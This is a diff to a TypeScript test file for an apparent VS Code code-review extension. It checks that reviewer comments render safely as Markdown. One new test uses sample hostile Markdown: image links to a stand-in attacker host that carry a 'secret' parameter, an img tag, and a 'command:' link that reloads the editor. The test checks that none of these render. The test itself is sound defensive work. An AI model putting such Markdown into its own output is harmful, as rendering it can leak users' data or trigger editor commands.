@@ -1,6 +1,7 @@
 // What the editor shows of a review finding: its comment thread (label, buttons by contextValue,
 // Markdown), its problem (severity, source, code), the Apply Suggestion edit (and its refusal when
 // the code changed), and what a review's answer does and says.
+import { marked, type Token } from 'marked';
 import { describe, expect, it } from 'vitest';
 import type { StoredFinding } from '../../client/src/review/findingsStore';
 import { byFolder, findingIdOf, replacedBy, reviewMessage, selectionLines, toReviewFinding, toStoredFindings } from '../../client/src/review/reviewOutcome';
@@ -26,6 +27,16 @@ const bug: StoredFinding = {
 const withoutSuggestion: StoredFinding = { ...bug };
 delete withoutSuggestion.suggestion;
 
+/** The types of Markdown tokens, nested ones included, as marked (VS Code's Markdown parser) reads them. */
+function tokenTypes(tokens: readonly Token[]): string[] {
+  return tokens.flatMap((token) => [token.type, ...('tokens' in token && token.tokens ? tokenTypes(token.tokens) : [])]);
+}
+
+/** Markdown as HTML, as marked renders it. */
+function rendered(markdown: string): string {
+  return marked.parse(markdown, { async: false });
+}
+
 describe('comment threads', () => {
   it('one thread per finding on its lines, labelled MOCO · severity · category, by the agent', () => {
     const spec = threadSpec(bug);
@@ -50,10 +61,38 @@ describe('comment threads', () => {
 
   it('the comment is the message, then the suggestion in a code fence of the file’s language', () => {
     expect(threadSpec(bug).body).toBe(
-      '`items.length = 0` assigns instead of comparing.\n\n**Suggested change:**\n\n```typescript\n  if (items.length === 0) {\n    return 0;\n```',
+      '`items.length = 0` assigns instead of comparing\\.\n\n**Suggested change:**\n\n```typescript\n  if (items.length === 0) {\n    return 0;\n```',
     );
-    expect(threadSpec(withoutSuggestion).body).toBe('`items.length = 0` assigns instead of comparing.');
-    expect(threadSpec({ ...bug, suggestion: '' }).body).toBe('`items.length = 0` assigns instead of comparing.\n\n**Suggested change:** delete lines 3–4.');
+    expect(threadSpec(withoutSuggestion).body).toBe('`items.length = 0` assigns instead of comparing\\.');
+    expect(threadSpec({ ...bug, suggestion: '' }).body).toBe('`items.length = 0` assigns instead of comparing\\.\n\n**Suggested change:** delete lines 3–4.');
+    expect(rendered(threadSpec(bug).body)).toBe(
+      '<p><code>items.length = 0</code> assigns instead of comparing.</p>\n<p><strong>Suggested change:</strong></p>\n<pre><code class="language-typescript">  if (items.length === 0) {\n    return 0;\n</code></pre>\n',
+    );
+  });
+
+  it('the reviewer’s message shows as text with its inline code: it cannot load an image, link, or make HTML', () => {
+    const hostile = [
+      'Leaks ![](https://attacker.example/?d=secret) and ![x][r] and ![r]',
+      '',
+      '[r]: https://attacker.example/ref.png',
+      '<img src="https://attacker.example/i.png"> <https://attacker.example/auto> [link](command:workbench.action.reload)',
+      '    indented ```fence',
+      '# heading `code ![](https://attacker.example/in-code)` \\![escaped](https://attacker.example/e.png) vec![1]',
+      '`unclosed ![](https://attacker.example/u.png)\r![](https://attacker.example/cr.png)`',
+    ].join('\n');
+    const body = threadSpec({ ...withoutSuggestion, message: hostile }).body;
+    const kinds = tokenTypes(marked.lexer(body));
+    expect([...new Set(kinds)].sort()).toEqual(['codespan', 'escape', 'paragraph', 'space', 'text']);
+    const html = rendered(body);
+    expect(html).not.toMatch(/<img|<a |<h1|<pre/);
+    // What the user reads is the text as written, line by line, with the inline code as code.
+    expect(html).toContain('<p>Leaks ![](https://attacker.example/?d=secret) and ![x][r] and ![r]</p>');
+    expect(html).toContain('<code>code ![](https://attacker.example/in-code)</code>');
+    expect(html).toContain('&lt;img src=&quot;https://attacker.example/i.png&quot;&gt;');
+    expect(html).toContain('<p>`unclosed ![](https://attacker.example/u.png)</p>\n<p>![](https://attacker.example/cr.png)`</p>');
+    // A suggestion is code, whatever it holds.
+    const suggested = tokenTypes(marked.lexer(threadSpec({ ...bug, suggestion: '```\n![](https://attacker.example/s.png)\n<img src=x>' }).body));
+    expect(suggested.filter((kind) => kind === 'image' || kind === 'html')).toEqual([]);
   });
 
   it('a suggestion holding backticks gets a longer fence, so it cannot close it early', () => {
